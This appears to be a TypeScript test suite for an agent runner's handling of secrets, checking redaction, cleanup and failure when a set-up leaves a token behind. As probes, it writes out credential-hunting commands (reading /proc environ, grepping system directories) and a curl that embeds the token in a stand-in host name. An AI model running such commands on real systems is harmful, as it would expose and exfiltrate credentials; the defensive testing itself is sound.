import { GITHUB_COM, GithubServer, type Setup, type WorkOrder } from '@syntropic/orchestration/contracts';
import { eventually } from '@syntropic/testing';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import { orderOf, shell, useRunner } from '../../test/runner.fixture';
import { describeWithBubblewrap, useDirectory } from '../../test/workspace.fixture';
import { RunnerLog } from '../work/runner-log';
import { RepositoryTokens } from './repository-tokens';

const TOKEN = 'npm-value-that-nobody-may-see';
const KEY = 'first-line-that-nobody-may-see\nsecond-line-that-nobody-may-see';
const SECRETS = /that-nobody-may-see|dGhhdC1ub2JvZHk/i;

/** Looks for the values in every place that an agent can read, with their parts joined here alone. */
const SEARCH = `
word="that-nobody"; word="$word-may-see"
env > environment; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > processes 2>/dev/null
grep -rlF "$word" /workspace /home /tmp /run /etc /dev/shm /var 2>/dev/null
grep -cF "$word" environment processes
cat proof; ls /tmp; echo searched
`;

describeWithBubblewrap('the secrets of a set-up', () => {
  const directory = useDirectory();
  const runner = useRunner(directory);
  const secrets = join(directory.path, 'secrets');
  beforeAll(() => {
    // As Kubernetes mounts them: links beside a hidden directory.
    mkdirSync(join(secrets, '..data'), { recursive: true });
    writeFileSync(join(secrets, 'NPM_TOKEN'), `${TOKEN}\n`);
    writeFileSync(join(secrets, 'DEPLOY_KEY'), KEY);
    writeFileSync(join(secrets, 'SHORT'), 'short');
    writeFileSync(join(secrets, 'lower-case'), 'long enough');
  });

  const order = (commands: readonly [string, ...string[]], more: Partial<Setup> = {}, script = SEARCH) =>
    orderOf({
      ...shell(script),
      setup: { commands, egress: [], secrets: ['NPM_TOKEN', 'DEPLOY_KEY'], timeoutSeconds: 600, ...more },
    });

  async function started(home: string, environment: Readonly<Record<string, string>> = {}) {
    const log: string[] = [];
    const sink = new Writable({
      write: (chunk: Buffer, _, done) => {
        log.push(chunk.toString());
        done();
      },
    });
    const logged = { provide: RunnerLog, useValue: new RunnerLog(pino({ level: 'trace' }, sink)) };
    await runner.start({ home, replaced: [logged], environment: { SECRETS_DIR: secrets, ...environment } });
    return log;
  }

  const eventsOf = ({ sessionId }: WorkOrder) =>
    runner.platform.stored.flatMap((batch) => (batch.sessionId === sessionId ? batch.events : []));
  const printed = (of: WorkOrder) =>
    eventsOf(of).flatMap(({ type, data }) => (type === 'setup_output' ? [data['text']] : []));
  const found = (place: string) =>
    execFileSync('sh', ['-c', 'grep -rlF that-nobody-may-see "$0" 2>/dev/null || true', place]).toString();
  const commandLines = () =>
    readdirSync('/proc')
      .filter((name) => /^\d+$/.test(name) && name !== `${process.pid}`)
      .map((pid) => {
        try {
          return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
        } catch {
          return '';
        }
      });

  it('are variables of its commands, and in nothing that is stored, shown, logged or left to the agent', async () => {
    const log = await started('runner', {
      EGRESS_ALLOWED_HOSTS: 'registry.example',
      EGRESS_PRIVATE_NETWORKS: '127.0.0.0/8',
    });
    const offered = order(
      [
        'printf %s "$NPM_TOKEN$DEPLOY_KEY" | sha256sum > proof; echo "$NPM_TOKEN" > /tmp/left; echo "$NPM_TOKEN" > /dev/shm/left',
        'env | sort; echo "$NPM_TOKEN" | tr a-z A-Z; printf "user:%s" "$NPM_TOKEN" | base64; echo "{\\"type\\":\\"$NPM_TOKEN\\"}" >&2',
        'curl -sS --max-time 5 "https://$NPM_TOKEN.example" || curl -sS --unix-socket "$SYN_RUNNER_SOCKET" -d "{}" "http://runner/anthropic/$NPM_TOKEN" || true',
        'until [ -e go ]; do echo waits; sleep 0.1; done',
      ],
      { egress: ['registry.example'] },
    );
    runner.platform.offer(offered);
    await eventually(() => printed(offered).includes('waits'));
    expect(commandLines().join('\n')).not.toMatch(SECRETS);
    writeFileSync(join(directory.path, 'runner/sessions', offered.sessionId, 'volume/workspace/go'), '');
    const ended = await runner.platform.receives('CompleteSession', offered);
    await eventually(() => runner.platform.linesOf(offered).includes('searched'));

    expect(ended).toMatchObject({ status: 'completed' });
    const proof = createHash('sha256').update(`${TOKEN}${KEY}`).digest('hex');
    expect(runner.platform.linesOf(offered)).toEqual(['environment:0', 'processes:0', `${proof}  -`, 'searched']);
    expect(printed(offered)).toEqual(
      expect.arrayContaining(['NPM_TOKEN=[NPM_TOKEN]', '[NPM_TOKEN]', '{"type":"[NPM_TOKEN]"}', '[DEPLOY_KEY]']),
    );
    expect(eventsOf(offered)).toContainEqual(
      expect.objectContaining({
        type: 'egress_connection',
        data: expect.objectContaining({ host: '[NPM_TOKEN].example' }) as unknown,
      }),
    );
    expect(JSON.stringify([runner.platform.stored, runner.platform.received])).not.toMatch(SECRETS);
    expect(log.join('')).not.toMatch(SECRETS);
    expect([found(join(directory.path, 'runner')), found(join(directory.path, 'objects'))]).toEqual(['', '']);
  });

  it('are offered by name, without files that are none', async () => {
    const log = await started('offers');
    await eventually(() => runner.platform.received.some(({ type }) => type === 'RenewWork'));

    const [renewed] = runner.platform.received.filter(({ type }) => type === 'RenewWork');
    expect(renewed?.data['secrets']).toEqual(['DEPLOY_KEY', 'NPM_TOKEN']);
    expect(log.join('')).toContain('it has fewer than 8 characters');
  });

  it.each([
    ['a file', 'echo "//registry/:_authToken=$NPM_TOKEN" > "$HOME/.npmrc"', '.npmrc'],
    ['an encoded file', 'printf "user:%s" "$NPM_TOKEN" | base64 -w0 > netrc', './netrc'],
    ['a name', 'touch "x-$NPM_TOKEN"', './x-[NPM_TOKEN]'],
    ['a link', 'ln -s "$NPM_TOKEN" link', './link [NPM_TOKEN]'],
    ['one line of several', 'printf "%s" "$DEPLOY_KEY" | tail -n 1 > key', './key'],
  ])('fail a set-up that leaves one in %s', async (_, command, place) => {
    await started('leaves');
    const offered = order([command], {}, 'echo agent');
    runner.platform.offer(offered);

    const ended = await runner.platform.receives('CompleteSession', offered);

    expect(ended).toMatchObject({ status: 'failed', errorType: 'setup_secret_left' });
    expect(ended['error']).toContain(place);
    expect(ended['error']).not.toMatch(SECRETS);
    expect(runner.platform.linesOf(offered)).toEqual([]);
  });

  it('fail a set-up whose runner has them no more', async () => {
    await started('lacks');
    const offered = order(['true'], { secrets: ['ABSENT'] });
    runner.platform.offer(offered);

    await expect(runner.platform.receives('CompleteSession', offered)).resolves.toMatchObject({
      status: 'failed',
      errorType: 'setup_secret_missing',
      error: 'this runner has no secret ABSENT',
    });
  });
});

describe('the token of a clone', () => {
  const directory = useDirectory();

  it("is the repository's own, else its owner's, and for the GitHub server alone", async () => {
    writeFileSync(join(directory.path, 'acme__shop'), 'token-of-the-shop\n');
    writeFileSync(join(directory.path, 'acme'), 'token-of-acme');
    const tokens = new RepositoryTokens(directory.path, GITHUB_COM);
    const of = (url: string) => tokens.of(url);

    await expect(of('https://github.com/acme/shop')).resolves.toBe('token-of-the-shop');
    await expect(of('https://github.com/acme/other.git')).resolves.toBe('token-of-acme');
    await expect(of('https://github.com/other/shop')).resolves.toBeUndefined();
    await expect(of('file:///acme/shop')).resolves.toBeUndefined();
    writeFileSync(join(directory.path, 'short'), 'short');
    await expect(of('https://github.com/short/shop')).rejects.toMatchObject({
      code: 'repository.token_unusable',
      message: "the runner's token short: it has fewer than 8 characters",
    });
    const elsewhere = new RepositoryTokens(directory.path, new GithubServer('https://git.acme.example'));
    await expect(elsewhere.of('https://github.com/acme/shop')).resolves.toBeUndefined();
    await expect(elsewhere.of('https://git.acme.example/acme/shop')).resolves.toBe('token-of-the-shop');
    await expect(
      new RepositoryTokens(undefined, GITHUB_COM).of('https://github.com/acme/shop'),
    ).resolves.toBeUndefined();
  });
});
